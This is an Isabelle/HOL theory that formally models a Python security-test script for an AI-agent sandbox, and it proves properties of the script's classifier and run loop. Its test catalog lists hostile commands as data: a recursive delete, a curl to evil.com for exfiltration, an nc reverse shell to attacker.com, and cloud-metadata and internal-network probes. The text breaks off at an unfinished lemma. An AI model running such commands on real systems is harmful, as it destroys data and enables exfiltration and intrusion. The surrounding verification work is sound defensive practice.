theory Spec2Isabelle
  imports Main "HOL-Library.Sublist"
begin

section \<open>Strings as the script uses them\<close>

text \<open>
  Python strings are modelled as \<^typ>\<open>string\<close>: lists of characters with code points
  below 256. The three library operations the script applies to the captured output
  are written out on that range: \<^verbatim>\<open>str.strip()\<close>, \<^verbatim>\<open>str.lower()\<close> and the substring
  test \<^verbatim>\<open>needle in haystack\<close>.
\<close>

text \<open>The characters \<^verbatim>\<open>str.isspace\<close> accepts below code point 256.\<close>

definition is_space :: "char \<Rightarrow> bool" where
  "is_space c =
     (let n = (of_char c :: nat)
      in (9 \<le> n \<and> n \<le> 13) \<or> (28 \<le> n \<and> n \<le> 32) \<or> n = 133 \<or> n = 160)"

definition strip :: "string \<Rightarrow> string" where
  "strip s = rev (dropWhile is_space (rev (dropWhile is_space s)))"

text \<open>
  \<^verbatim>\<open>str.lower()\<close> character by character: the ASCII capitals and the Latin-1 capitals
  (all of 0xC0..0xDE but the multiplication sign 0xD7) move up by 32.
\<close>

definition lower_char :: "char \<Rightarrow> char" where
  "lower_char c =
     (let n = (of_char c :: nat)
      in if (65 \<le> n \<and> n \<le> 90) \<or> (192 \<le> n \<and> n \<le> 222 \<and> n \<noteq> 215)
         then char_of (n + 32) else c)"

definition lower :: "string \<Rightarrow> string" where
  "lower s = map lower_char s"

text \<open>\<^verbatim>\<open>needle in haystack\<close>: the needle occurs as a contiguous run of the haystack.\<close>

fun str_in :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "str_in needle [] = (needle = [])"
| "str_in needle (c # s) = (prefix needle (c # s) \<or> str_in needle s)"

section \<open>The result of one remote command and its classification\<close>

text \<open>
  \<^verbatim>\<open>result\<close> of \<^verbatim>\<open>execute_sync\<close> (lines 307-321): an exit status and two captured
  streams, either of which may be \<^verbatim>\<open>None\<close>.
\<close>

record execution_result =
  exit_status :: int
  stdout :: "string option"
  stderr :: "string option"

text \<open>\<^verbatim>\<open>x or ""\<close> (lines 313-314): \<^verbatim>\<open>None\<close> and the empty string both give \<^verbatim>\<open>""\<close>.\<close>

definition or_empty :: "string option \<Rightarrow> string" where
  "or_empty x = (case x of None \<Rightarrow> [] | Some s \<Rightarrow> s)"

text \<open>Line 315, before the truncation: \<^verbatim>\<open>(stdout + stderr).strip()\<close>.\<close>

definition combined_output :: "execution_result \<Rightarrow> string" where
  "combined_output result = strip (or_empty (stdout result) @ or_empty (stderr result))"

text \<open>Lines 318-319: \<^verbatim>\<open>if len(output) > 200: output = output[:200] + "..."\<close>.\<close>

definition truncate_output :: "string \<Rightarrow> string" where
  "truncate_output output =
     (if length output > 200 then take 200 output @ ''...'' else output)"

text \<open>
  The value of the variable \<^verbatim>\<open>output\<close> from line 319 on: it is what lines 328-332
  search and what line 342 prints.
\<close>

definition output_of :: "execution_result \<Rightarrow> string" where
  "output_of result = truncate_output (combined_output result)"

text \<open>
  Lines 324-337: the variable \<^verbatim>\<open>passed\<close>, from \<^verbatim>\<open>test["expect"]\<close> and the result.
  The search for \<^verbatim>\<open>"400"\<close> is on \<^verbatim>\<open>output\<close>, the four others on \<^verbatim>\<open>output.lower()\<close>.
\<close>

definition classify :: "string \<Rightarrow> execution_result \<Rightarrow> bool" where
  "classify expect result =
     (let output = output_of result;
          exit_code = exit_status result
      in if expect = ''blocked'' then
           (exit_code \<noteq> 0
            \<or> str_in ''blocked'' (lower output)
            \<or> str_in ''denied'' (lower output)
            \<or> str_in ''permission'' (lower output)
            \<or> str_in ''400'' output
            \<or> str_in ''not found'' (lower output))
         else if expect = ''success'' then exit_code = 0
         else True)"

text \<open>Line 339: \<^verbatim>\<open>status = "PASS" if passed else "FAIL"\<close>.\<close>

definition status_label :: "bool \<Rightarrow> string" where
  "status_label passed = (if passed then ''PASS'' else ''FAIL'')"

text \<open>
  The decision as the specification words it, for comparison with \<^const>\<open>classify\<close>:
  the five substrings are looked for, ignoring case, in the whole combined text of
  stdout and stderr, which is never shortened.
\<close>

definition blocking_substrings :: "string list" where
  "blocking_substrings = [''blocked'', ''denied'', ''permission'', ''400'', ''not found'']"

definition spec_blocked_signal :: "execution_result \<Rightarrow> bool" where
  "spec_blocked_signal result =
     list_ex (\<lambda>p. str_in p (lower (or_empty (stdout result) @ or_empty (stderr result))))
       blocking_substrings"

definition spec_classify :: "string \<Rightarrow> execution_result \<Rightarrow> bool" where
  "spec_classify expect result =
     (if expect = ''blocked'' then exit_status result \<noteq> 0 \<or> spec_blocked_signal result
      else if expect = ''success'' then exit_status result = 0
      else True)"

section \<open>The test catalog\<close>

text \<open>One entry of a category's \<^verbatim>\<open>"tests"\<close> list (lines 35-40 and alike).\<close>

record test =
  name :: string
  command :: string
  expect :: string
  description :: string

record category =
  title :: string
  cat_description :: string
  tests :: "test list"

text \<open>
  \<^verbatim>\<open>SECURITY_TESTS\<close> (lines 27-187): a dictionary literal, iterated in insertion order
  by \<^verbatim>\<open>.items()\<close>, hence an association list. A command that ends in a single quote
  has that quote appended as \<^term>\<open>CHR 0x27\<close>.
\<close>

definition mk_test :: "string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> test" where
  "mk_test n c e d = \<lparr>name = n, command = c, expect = e, description = d\<rparr>"

definition SECURITY_TESTS :: "(string \<times> category) list" where
  "SECURITY_TESTS =
   [(''ai_agent'',
     \<lparr>title = ''AI Agent Code Execution Protection'',
      cat_description =
        ''Protect against malicious AI-generated code, prompt injection, and hallucinations'',
      tests =
       [mk_test ''Block recursive rm (AI hallucination)'' ''rm -rf /home 2>&1'' ''blocked''
          ''AI agent attempting destructive command'',
        mk_test ''Block data exfiltration'' ''curl -s https://evil.com/exfil 2>&1'' ''blocked''
          ''Prompt injection leading to data exfiltration'',
        mk_test ''Block reverse shell (nc)'' ''nc -e /bin/bash attacker.com 4444 2>&1''
          ''blocked'' ''Malicious code attempting reverse shell'',
        mk_test ''Soft-delete protection''
          (''touch /tmp/testfile && rm /tmp/testfile 2>&1; echo 'delete attempted'' @ [CHR 0x27])
          ''success'' ''Single file deletes allowed (soft-delete in workspace)'']\<rparr>),
    (''cloud_infra'',
     \<lparr>title = ''Cloud Infrastructure Protection'',
      cat_description =
        ''Prevent SSRF, credential theft, and lateral movement in cloud environments'',
      tests =
       [mk_test ''Block AWS metadata service''
          ''curl -s --connect-timeout 2 http://169.254.169.254/latest/meta-data/ 2>&1''
          ''blocked'' ''Prevent SSRF to AWS instance metadata'',
        mk_test ''Block GCP metadata service''
          ''curl -s --connect-timeout 2 -H 'Metadata-Flavor: Google' http://169.254.169.254/ 2>&1''
          ''blocked'' ''Prevent SSRF to GCP instance metadata'',
        mk_test ''Block internal network (10.x.x.x)''
          ''curl -s --connect-timeout 2 http://10.0.0.1:8080/ 2>&1''
          ''blocked'' ''Prevent lateral movement to internal services'',
        mk_test ''Block internal network (172.16.x.x)''
          ''curl -s --connect-timeout 2 http://172.16.0.1/ 2>&1''
          ''blocked'' ''Prevent lateral movement to private network'',
        mk_test ''Block Kubernetes API''
          ''curl -sk --connect-timeout 2 https://kubernetes.default.svc/ 2>&1''
          ''blocked'' ''Prevent access to K8s control plane'']\<rparr>),
    (''isolation'',
     \<lparr>title = ''Multi-Tenant Isolation'',
      cat_description =
        ''Prevent container escape, privilege escalation, and resource abuse'',
      tests =
       [mk_test ''Block sudo'' ''sudo whoami 2>&1'' ''blocked''
          ''Prevent privilege escalation via sudo'',
        mk_test ''Block su'' ''su - root -c whoami 2>&1'' ''blocked''
          ''Prevent privilege escalation via su'',
        mk_test ''Block nsenter (container escape)'' ''nsenter --target 1 --mount 2>&1''
          ''blocked'' ''Prevent escape to host namespace'',
        mk_test ''Block docker command'' ''docker ps 2>&1'' ''blocked''
          ''Prevent Docker-in-Docker abuse'',
        mk_test ''Block pkill (process control)'' ''pkill -9 bash 2>&1'' ''blocked''
          ''Prevent killing processes'']\<rparr>),
    (''allowed'',
     \<lparr>title = ''Allowed Operations'',
      cat_description = ''Verify normal development operations work correctly'',
      tests =
       [mk_test ''Basic echo'' (''echo 'Hello from agentsh sandbox'' @ [CHR 0x27]) ''success''
          ''Basic shell command'',
        mk_test ''List files'' ''ls -la /home'' ''success'' ''File listing'',
        mk_test ''Git version'' ''git --version'' ''success'' ''Git operations'',
        mk_test ''Bash execution'' (''bash -c 'echo $((1+1))'' @ [CHR 0x27]) ''success''
          ''Bash code execution'',
        mk_test ''npm registry access'' ''curl -sI https://registry.npmjs.org/ 2>&1 | head -1''
          ''success'' ''Package registry access (allowed)'',
        mk_test ''agentsh version'' ''/usr/bin/agentsh --version'' ''success''
          ''agentsh is installed'']\<rparr>)]"

text \<open>Every test of the catalog, in the order the nested loops of lines 295-301 visit them.\<close>

definition all_tests :: "(string \<times> category) list \<Rightarrow> test list" where
  "all_tests catalog = concat (map (\<lambda>(key, cat). tests cat) catalog)"

section \<open>The remote service\<close>

text \<open>
  What a call of the client can raise, as far as the script's handlers tell it apart:
  \<^verbatim>\<open>asyncio.TimeoutError\<close> (line 346), any other \<^verbatim>\<open>Exception\<close> with its text (lines 257
  and 350), and an exception that is not an \<^verbatim>\<open>Exception\<close> (a cancellation, a keyboard
  interrupt), which no \<^verbatim>\<open>except\<close> clause of the script catches.
\<close>

datatype exn = TimeoutError | Exception string | BaseException string

text \<open>What \<^verbatim>\<open>except Exception\<close> catches: \<^verbatim>\<open>asyncio.TimeoutError\<close> is an \<^verbatim>\<open>Exception\<close>.\<close>

fun is_Exception :: "exn \<Rightarrow> bool" where
  "is_Exception TimeoutError = True"
| "is_Exception (Exception m) = True"
| "is_Exception (BaseException m) = False"

datatype 'a outcome = Returns 'a | Raises exn

text \<open>
  The \<^verbatim>\<open>AsyncRunloop\<close> client is outside the repository; it is a parameter of the model.
  Each field answers one of the calls the script makes. The two polled calls and
  \<^verbatim>\<open>execute_sync\<close> are asked many times, so their answer depends on how many calls of
  the same kind came before.
\<close>

record client =
  blueprints_create :: "string outcome"
  blueprints_retrieve :: "nat \<Rightarrow> string outcome"
  blueprints_logs :: "string outcome"
  devboxes_create :: "string outcome"
  devboxes_retrieve :: "nat \<Rightarrow> string outcome"
  devboxes_execute_sync :: "nat \<Rightarrow> string \<Rightarrow> execution_result outcome"
  devboxes_shutdown :: "unit outcome"

text \<open>
  What a run does that an observer of the service and of the console verdicts can see,
  in order. \<open>BlueprintsRetrieve\<close> and \<open>DevboxesRetrieve\<close> carry the handle and the
  answer; \<open>ExecuteSync\<close> the devbox and the command; \<open>Verdict\<close> the text of the
  \<^verbatim>\<open>Result: [...]\<close> line. The other console lines are not modelled, and printing and
  sleeping are taken not to raise.
\<close>

datatype event =
    BlueprintsCreate
  | BlueprintsRetrieve string "string outcome"
  | BlueprintsLogs string
  | DevboxesCreate string
  | DevboxesRetrieve string "string outcome"
  | Sleep nat
  | ExecuteSync string string
  | Verdict string
  | Shutdown string

text \<open>
  How a part of \<^verbatim>\<open>main\<close> ends: it falls through with a value, an exception leaves it, or
  (for the two \<^verbatim>\<open>while True\<close> loops, which have no bound) it is still polling after the
  number of rounds the model was given.
\<close>

datatype 'a run = Done 'a | Raised exn | Polling

section \<open>Provisioning: the two polling loops\<close>

text \<open>
  Lines 244-261. \<open>k\<close> counts the polls made so far. On \<^verbatim>\<open>"build_failed"\<close> the logs are
  asked for inside \<^verbatim>\<open>try ... except Exception: pass\<close> and then line 259 raises
  \<^verbatim>\<open>Exception("Blueprint build failed")\<close>.
\<close>

fun await_blueprint :: "nat \<Rightarrow> client \<Rightarrow> string \<Rightarrow> nat \<Rightarrow> unit run \<times> event list" where
  "await_blueprint 0 c bid k = (Polling, [])"
| "await_blueprint (Suc fuel) c bid k =
     (case blueprints_retrieve c k of
        Raises e \<Rightarrow> (Raised e, [BlueprintsRetrieve bid (Raises e)])
      | Returns status \<Rightarrow>
          if status = ''build_complete'' then
            (Done (), [BlueprintsRetrieve bid (Returns status)])
          else if status = ''build_failed'' then
            (case blueprints_logs c of
               Returns logs \<Rightarrow> Raised (Exception ''Blueprint build failed'')
             | Raises e \<Rightarrow>
                 if is_Exception e then Raised (Exception ''Blueprint build failed'')
                 else Raised e,
             [BlueprintsRetrieve bid (Returns status), BlueprintsLogs bid])
          else
            (let (r, ev) = await_blueprint fuel c bid (Suc k)
             in (r, [BlueprintsRetrieve bid (Returns status), Sleep 5] @ ev)))"

text \<open>Lines 273-283.\<close>

fun await_devbox :: "nat \<Rightarrow> client \<Rightarrow> string \<Rightarrow> nat \<Rightarrow> unit run \<times> event list" where
  "await_devbox 0 c did k = (Polling, [])"
| "await_devbox (Suc fuel) c did k =
     (case devboxes_retrieve c k of
        Raises e \<Rightarrow> (Raised e, [DevboxesRetrieve did (Raises e)])
      | Returns status \<Rightarrow>
          if status = ''running'' then
            (Done (), [DevboxesRetrieve did (Returns status)])
          else if status \<in> set [''failed'', ''shutdown''] then
            (Raised (Exception (''Devbox failed to start: '' @ status)),
             [DevboxesRetrieve did (Returns status)])
          else
            (let (r, ev) = await_devbox fuel c did (Suc k)
             in (r, [DevboxesRetrieve did (Returns status), Sleep 2] @ ev)))"

section \<open>Running the tests\<close>

text \<open>\<^verbatim>\<open>results\<close> (line 293): three counters, Python integers.\<close>

record results =
  passed :: int
  failed :: int
  errors :: int

definition results0 :: results where
  "results0 = \<lparr>passed = 0, failed = 0, errors = 0\<rparr>"

text \<open>Line 340: \<^verbatim>\<open>results["passed" if passed else "failed"] += 1\<close>.\<close>

definition count_verdict :: "bool \<Rightarrow> results \<Rightarrow> results" where
  "count_verdict p res =
     (if p then res\<lparr>passed := passed res + 1\<rparr> else res\<lparr>failed := failed res + 1\<rparr>)"

text \<open>Lines 349 and 353: \<^verbatim>\<open>results["errors"] += 1\<close>.\<close>

definition count_error :: "results \<Rightarrow> results" where
  "count_error res = res\<lparr>errors := errors res + 1\<rparr>"

text \<open>
  The body of the inner loop, lines 306-353: one call of \<^verbatim>\<open>execute_sync\<close> (the \<open>k\<close>-th
  of the run) inside \<^verbatim>\<open>try\<close>, with the handlers of lines 346 and 350. An exception that
  is not an \<^verbatim>\<open>Exception\<close> leaves the loop.
\<close>

definition run_test ::
  "client \<Rightarrow> string \<Rightarrow> test \<Rightarrow> nat \<Rightarrow> results \<Rightarrow> (exn + results) \<times> event list" where
  "run_test c did t k res =
     (case devboxes_execute_sync c k (command t) of
        Returns result \<Rightarrow>
          (let p = classify (expect t) result
           in (Inr (count_verdict p res),
               [ExecuteSync did (command t), Verdict (status_label p)]))
      | Raises e \<Rightarrow>
          if is_Exception e then
            (Inr (count_error res), [ExecuteSync did (command t), Verdict ''ERROR''])
          else (Inl e, [ExecuteSync did (command t)]))"

text \<open>Line 301: \<^verbatim>\<open>for test in category["tests"]\<close>.\<close>

fun run_category ::
  "client \<Rightarrow> string \<Rightarrow> test list \<Rightarrow> nat \<Rightarrow> results \<Rightarrow> (exn + results) \<times> event list" where
  "run_category c did [] k res = (Inr res, [])"
| "run_category c did (t # ts) k res =
     (case run_test c did t k res of
        (Inl e, ev) \<Rightarrow> (Inl e, ev)
      | (Inr res', ev) \<Rightarrow>
          (let (r, ev') = run_category c did ts (Suc k) res' in (r, ev @ ev')))"

text \<open>
  Line 295: \<^verbatim>\<open>for category_key, category in SECURITY_TESTS.items()\<close>. A category that
  ran to its end made one call per test.
\<close>

fun run_tests ::
  "client \<Rightarrow> string \<Rightarrow> (string \<times> category) list \<Rightarrow> nat \<Rightarrow> results
     \<Rightarrow> (exn + results) \<times> event list" where
  "run_tests c did [] k res = (Inr res, [])"
| "run_tests c did ((key, cat) # rest) k res =
     (case run_category c did (tests cat) k res of
        (Inl e, ev) \<Rightarrow> (Inl e, ev)
      | (Inr res', ev) \<Rightarrow>
          (let (r, ev') = run_tests c did rest (k + length (tests cat)) res'
           in (r, ev @ ev')))"

text \<open>
  Lines 292-397: \<^verbatim>\<open>try: ... finally: await runloop.devboxes.shutdown(devbox.id)\<close>.
  The \<^verbatim>\<open>finally\<close> block has no handler of its own: an exception of the shutdown call
  leaves \<^verbatim>\<open>main\<close>, in place of whatever the \<^verbatim>\<open>try\<close> block had raised.
\<close>

definition run_and_cleanup ::
  "client \<Rightarrow> string \<Rightarrow> (string \<times> category) list \<Rightarrow> results run \<times> event list" where
  "run_and_cleanup c did catalog =
     (let (body, ev) = run_tests c did catalog 0 results0
      in (case devboxes_shutdown c of
            Raises e \<Rightarrow> Raised e
          | Returns u \<Rightarrow> (case body of Inl e \<Rightarrow> Raised e | Inr res \<Rightarrow> Done res),
          ev @ [Shutdown did]))"

section \<open>The whole run\<close>

text \<open>
  \<^verbatim>\<open>main\<close> from line 223 on (the checks of the API key and of the import, and the
  reading of the three configuration files, come before and are not modelled), for any
  catalog. \<open>fuel\<close> bounds the rounds of each polling loop. The value returned is the
  final \<^verbatim>\<open>results\<close>, which the script prints in its summary.
\<close>

definition main_with ::
  "nat \<Rightarrow> client \<Rightarrow> (string \<times> category) list \<Rightarrow> results run \<times> event list" where
  "main_with fuel c catalog =
     (case blueprints_create c of
        Raises e \<Rightarrow> (Raised e, [BlueprintsCreate])
      | Returns bid \<Rightarrow>
          (case await_blueprint fuel c bid 0 of
             (Raised e, ev1) \<Rightarrow> (Raised e, BlueprintsCreate # ev1)
           | (Polling, ev1) \<Rightarrow> (Polling, BlueprintsCreate # ev1)
           | (Done u, ev1) \<Rightarrow>
               (case devboxes_create c of
                  Raises e \<Rightarrow> (Raised e, BlueprintsCreate # ev1 @ [DevboxesCreate bid])
                | Returns did \<Rightarrow>
                    (case await_devbox fuel c did 0 of
                       (Raised e, ev2) \<Rightarrow>
                         (Raised e, BlueprintsCreate # ev1 @ [DevboxesCreate bid] @ ev2)
                     | (Polling, ev2) \<Rightarrow>
                         (Polling, BlueprintsCreate # ev1 @ [DevboxesCreate bid] @ ev2)
                     | (Done u', ev2) \<Rightarrow>
                         (let (r, ev3) = run_and_cleanup c did catalog
                          in (r, BlueprintsCreate # ev1 @ [DevboxesCreate bid] @ ev2
                                   @ [Sleep 10] @ ev3))))))"

definition main :: "nat \<Rightarrow> client \<Rightarrow> results run \<times> event list" where
  "main fuel c = main_with fuel c SECURITY_TESTS"

section \<open>Reading a trace\<close>

fun is_Shutdown :: "event \<Rightarrow> bool" where
  "is_Shutdown (Shutdown did) = True"
| "is_Shutdown e = False"

definition shutdown_calls :: "event list \<Rightarrow> nat" where
  "shutdown_calls ev = length (filter is_Shutdown ev)"

fun is_running_seen :: "event \<Rightarrow> bool" where
  "is_running_seen (DevboxesRetrieve did (Returns status)) = (status = ''running'')"
| "is_running_seen e = False"

definition reached_running :: "event list \<Rightarrow> bool" where
  "reached_running ev = list_ex is_running_seen ev"

text \<open>The commands sent to the devbox, in order.\<close>

fun issued_commands :: "event list \<Rightarrow> string list" where
  "issued_commands [] = []"
| "issued_commands (ExecuteSync did cmd # ev) = cmd # issued_commands ev"
| "issued_commands (e # ev) = issued_commands ev"

text \<open>
  A trace is read from left to right, remembering the devbox whose latest observed
  status was \<^verbatim>\<open>"running"\<close> (none at the start, and none after any other answer of
  \<^verbatim>\<open>devboxes.retrieve\<close>). The trace is in order when every command goes to that devbox.
\<close>

fun probes_after_running :: "string option \<Rightarrow> event list \<Rightarrow> bool" where
  "probes_after_running seen [] = True"
| "probes_after_running seen (DevboxesRetrieve did (Returns status) # ev) =
     probes_after_running (if status = ''running'' then Some did else None) ev"
| "probes_after_running seen (DevboxesRetrieve did (Raises e) # ev) =
     probes_after_running None ev"
| "probes_after_running seen (ExecuteSync did cmd # ev) =
     (seen = Some did \<and> probes_after_running seen ev)"
| "probes_after_running seen (e # ev) = probes_after_running seen ev"

text \<open>The devbox remembered after reading a whole trace.\<close>

fun seen_after :: "string option \<Rightarrow> event list \<Rightarrow> string option" where
  "seen_after seen [] = seen"
| "seen_after seen (DevboxesRetrieve did (Returns status) # ev) =
     seen_after (if status = ''running'' then Some did else None) ev"
| "seen_after seen (DevboxesRetrieve did (Raises e) # ev) = seen_after None ev"
| "seen_after seen (e # ev) = seen_after seen ev"


section \<open>Example services\<close>

text \<open>
  A service whose image is built on the third poll and whose devbox runs on the second.
  Its first command exits with 0 and prints \<^verbatim>\<open>done\<close>, its third times out, every other one
  exits with 0 and prints \<^verbatim>\<open>Permission denied\<close>.
\<close>

definition demo_execute :: "nat \<Rightarrow> string \<Rightarrow> execution_result outcome" where
  "demo_execute k cmd =
     (if k = 0 then Returns \<lparr>exit_status = 0, stdout = Some ''done'', stderr = None\<rparr>
      else if k = 2 then Raises TimeoutError
      else Returns \<lparr>exit_status = 0, stdout = Some ''Permission denied'', stderr = Some []\<rparr>)"

definition demo_blueprint_status :: "nat \<Rightarrow> string outcome" where
  "demo_blueprint_status k = Returns (if k < 2 then ''building'' else ''build_complete'')"

definition demo_devbox_status :: "nat \<Rightarrow> string outcome" where
  "demo_devbox_status k = Returns (if k < 1 then ''provisioning'' else ''running'')"

definition demo_client :: client where
  "demo_client =
     \<lparr>blueprints_create = Returns ''bp-1'',
      blueprints_retrieve = demo_blueprint_status,
      blueprints_logs = Returns ''no logs'',
      devboxes_create = Returns ''dbx-1'',
      devboxes_retrieve = demo_devbox_status,
      devboxes_execute_sync = demo_execute,
      devboxes_shutdown = Returns ()\<rparr>"


text \<open>An image whose build fails on the second poll.\<close>

definition failing_blueprint_status :: "nat \<Rightarrow> string outcome" where
  "failing_blueprint_status k = Returns (if k < 1 then ''building'' else ''build_failed'')"

text \<open>A catalog of two categories with three tests.\<close>

definition small_catalog :: "(string \<times> category) list" where
  "small_catalog =
     [(''first'',
       \<lparr>title = ''First'', cat_description = ''two tests'',
        tests = [mk_test ''a'' ''sudo id'' ''blocked'' ''no sudo'',
                 mk_test ''b'' ''ls'' ''success'' ''listing'']\<rparr>),
      (''second'',
       \<lparr>title = ''Second'', cat_description = ''one test'',
        tests = [mk_test ''c'' ''docker ps'' ''blocked'' ''no docker'']\<rparr>)]"

section \<open>Properties of the classifier\<close>

lemma str_in_sublist: "str_in p s = sublist p s"
  by (induction s) (auto simp: sublist_Cons_right)

lemma strip_id:
  assumes "s \<noteq> []" "\<not> is_space (hd s)" "\<not> is_space (last s)"
  shows "strip s = s"
proof -
  have "dropWhile is_space s = s" using assms by (cases s) auto
  moreover have "dropWhile is_space (rev s) = rev s"
    using assms by (cases s rule: rev_cases) auto
  ultimately show ?thesis by (simp add: strip_def)
qed

lemma str_in_set: "str_in p s \<Longrightarrow> set p \<subseteq> set s"
  by (simp add: str_in_sublist set_mono_sublist)

lemma str_in_append_right: "str_in p t \<Longrightarrow> str_in p (s @ t)"
  by (simp add: str_in_sublist sublist_append)

lemma lower_replicate: "lower (replicate n c @ s) = replicate n (lower_char c) @ lower s"
  by (simp add: lower_def)

lemma lower_char_small [simp]:
  "lower_char (CHR ''a'') = CHR ''a''" "lower_char (CHR ''x'') = CHR ''x''"
  by (simp_all add: lower_char_def)

lemma not_space_letters [simp]:
  "\<not> is_space (CHR ''a'')" "\<not> is_space (CHR ''d'')" "\<not> is_space (CHR ''x'')"
  by (simp_all add: is_space_def)

lemma filler_has_no_signal:
  assumes "\<not> set p \<subseteq> {c, CHR ''.''}"
  shows "\<not> str_in p (replicate 200 c @ ''...'')"
  using assms str_in_set[of p "replicate 200 c @ ''...''"] by auto

text \<open>
  C3. For a test that expects \<^verbatim>\<open>"success"\<close>, \<^verbatim>\<open>passed\<close> holds (the verdict printed is
  \<^verbatim>\<open>PASS\<close>) if and only if the exit status is 0, and putting any other text in stdout and
  stderr leaves the verdict as it is.
\<close>

theorem success_iff_exit_zero:
  "x = ''success'' \<Longrightarrow>
     classify x result = (exit_status result = 0)
     \<and> (status_label (classify x result) = ''PASS'') = (exit_status result = 0)
     \<and> classify x (result\<lparr>stdout := out, stderr := err\<rparr>) = classify x result"
  by (simp add: classify_def status_label_def)

theorem success_iff_exit_zero_witness:
  "classify ''success'' \<lparr>exit_status = 0, stdout = Some ''access denied'', stderr = None\<rparr>
   \<and> \<not> classify ''success'' \<lparr>exit_status = 1, stdout = Some ''ok'', stderr = None\<rparr>"
  using success_iff_exit_zero
          [of "''success''" "\<lparr>exit_status = 0, stdout = Some ''access denied'', stderr = None\<rparr>"]
        success_iff_exit_zero
          [of "''success''" "\<lparr>exit_status = 1, stdout = Some ''ok'', stderr = None\<rparr>"]
  by simp

lemma output_of_long_stdout:
  "output_of \<lparr>exit_status = n, stdout = Some (replicate 200 (CHR ''a'') @ ''blocked''),
              stderr = Some []\<rparr> = replicate 200 (CHR ''a'') @ ''...''"
proof -
  have "strip (replicate 200 (CHR ''a'') @ ''blocked'') = replicate 200 (CHR ''a'') @ ''blocked''"
    by (rule strip_id) (simp_all add: hd_append)
  then show ?thesis
    by (simp add: output_of_def combined_output_def or_empty_def truncate_output_def)
qed

text \<open>
  C2. The claim is that the verdict is the one the whole combined output would give.
  The script searches the variable \<^verbatim>\<open>output\<close> after line 319 has cut it to 200
  characters: for a test that expects \<^verbatim>\<open>"blocked"\<close>, exit status 0 and a stdout of 200
  letters \<^verbatim>\<open>a\<close> followed by \<^verbatim>\<open>blocked\<close>, the script's verdict is \<^verbatim>\<open>FAIL\<close>, and the verdict on
  the whole output is \<^verbatim>\<open>PASS\<close>.
\<close>

theorem truncation_changes_verdict:
  "classify ''blocked''
     \<lparr>exit_status = 0, stdout = Some (replicate 200 (CHR ''a'') @ ''blocked''),
      stderr = Some []\<rparr> = False
   \<and> spec_classify ''blocked''
     \<lparr>exit_status = 0, stdout = Some (replicate 200 (CHR ''a'') @ ''blocked''),
      stderr = Some []\<rparr> = True"
proof -
  have "str_in ''blocked'' (lower (replicate 200 (CHR ''a'') @ ''blocked''))"
    by (simp add: lower_replicate str_in_append_right) (rule str_in_append_right, code_simp)
  then show ?thesis
    by (simp add: classify_def output_of_long_stdout lower_replicate filler_has_no_signal
          spec_classify_def spec_blocked_signal_def blocking_substrings_def or_empty_def)
      (simp add: lower_def lower_char_def filler_has_no_signal)
qed

theorem truncation_changes_verdict_witness:
  "classify ''blocked''
     \<lparr>exit_status = 0, stdout = Some (replicate 200 (CHR ''a'') @ ''blocked''),
      stderr = Some []\<rparr>
   \<noteq> spec_classify ''blocked''
     \<lparr>exit_status = 0, stdout = Some (replicate 200 (CHR ''a'') @ ''blocked''),
      stderr = Some []\<rparr>"
  using truncation_changes_verdict by simp

section \<open>Properties of the counters\<close>









lemma security_tests_count: "length (all_tests SECURITY_TESTS) = 20"
  by (simp add: all_tests_def SECURITY_TESTS_def)




section \<open>Properties of the test loop\<close>

lemma run_category_append:
  "run_category c did (xs @ ys) k r =
     (case run_category c did xs k r of
        (Inl e, ev) \<Rightarrow> (Inl e, ev)
      | (Inr r', ev) \<Rightarrow>
          (let (x, ev') = run_category c did ys (k + length xs) r' in (x, ev @ ev')))"
  by (induction xs arbitrary: k r) (auto split: prod.splits sum.splits)

lemma run_tests_flat:
  "run_tests c did catalog k r = run_category c did (all_tests catalog) k r"
proof (induction catalog arbitrary: k r)
  case Nil
  show ?case by (simp add: all_tests_def)
next
  case (Cons kc catalog)
  obtain key cat where kc: "kc = (key, cat)" by (cases kc)
  have "all_tests (kc # catalog) = tests cat @ all_tests catalog"
    by (simp add: all_tests_def kc)
  then show ?case
    by (simp add: kc run_category_append Cons.IH split: prod.splits sum.splits)
qed









section \<open>Properties of the traces\<close>

lemma shutdown_calls_append [simp]:
  "shutdown_calls (a @ b) = shutdown_calls a + shutdown_calls b"
  by (simp add: shutdown_calls_def)

lemma shutdown_calls_simps [simp]:
  "shutdown_calls [] = 0"
  "shutdown_calls (e # ev) = (if is_Shutdown e then 1 else 0) + shutdown_calls ev"
  by (simp_all add: shutdown_calls_def)

lemma reached_running_append [simp]:
  "reached_running (a @ b) = (reached_running a \<or> reached_running b)"
  by (auto simp: reached_running_def list_ex_iff)

lemma reached_running_simps [simp]:
  "reached_running [] = False"
  "reached_running (e # ev) = (is_running_seen e \<or> reached_running ev)"
  by (simp_all add: reached_running_def)

lemma probes_after_running_append:
  "probes_after_running s (a @ b) =
     (probes_after_running s a \<and> probes_after_running (seen_after s a) b)"
  by (induction s a rule: probes_after_running.induct) simp_all

lemma seen_after_append: "seen_after s (a @ b) = seen_after (seen_after s a) b"
  by (induction s a rule: seen_after.induct) simp_all

lemma await_blueprint_trace:
  "shutdown_calls (snd (await_blueprint fuel c bid k)) = 0
   \<and> \<not> reached_running (snd (await_blueprint fuel c bid k))
   \<and> probes_after_running s (snd (await_blueprint fuel c bid k))
   \<and> seen_after s (snd (await_blueprint fuel c bid k)) = s"
proof (induction fuel arbitrary: k)
  case 0
  show ?case by simp
next
  case (Suc fuel)
  obtain x ev where a: "await_blueprint fuel c bid (Suc k) = (x, ev)"
    by (cases "await_blueprint fuel c bid (Suc k)")
  from Suc[of "Suc k"] a have
    "shutdown_calls ev = 0" "\<not> reached_running ev"
    "probes_after_running s ev" "seen_after s ev = s"
    by simp_all
  with a show ?case by (auto split: outcome.splits)
qed

lemma await_devbox_trace:
  "shutdown_calls (snd (await_devbox fuel c did k)) = 0
   \<and> reached_running (snd (await_devbox fuel c did k))
        = (fst (await_devbox fuel c did k) = Done ())
   \<and> probes_after_running s (snd (await_devbox fuel c did k))
   \<and> (fst (await_devbox fuel c did k) = Done () \<longrightarrow>
        seen_after s (snd (await_devbox fuel c did k)) = Some did)"
proof (induction fuel arbitrary: k s)
  case 0
  show ?case by simp
next
  case (Suc fuel)
  obtain x ev where a: "await_devbox fuel c did (Suc k) = (x, ev)"
    by (cases "await_devbox fuel c did (Suc k)")
  from Suc[of "Suc k" None] a have
    "shutdown_calls ev = 0" "reached_running ev = (x = Done ())"
    "probes_after_running None ev" "x = Done () \<longrightarrow> seen_after None ev = Some did"
    by simp_all
  with a show ?case by (auto split: outcome.splits)
qed

lemma run_test_trace:
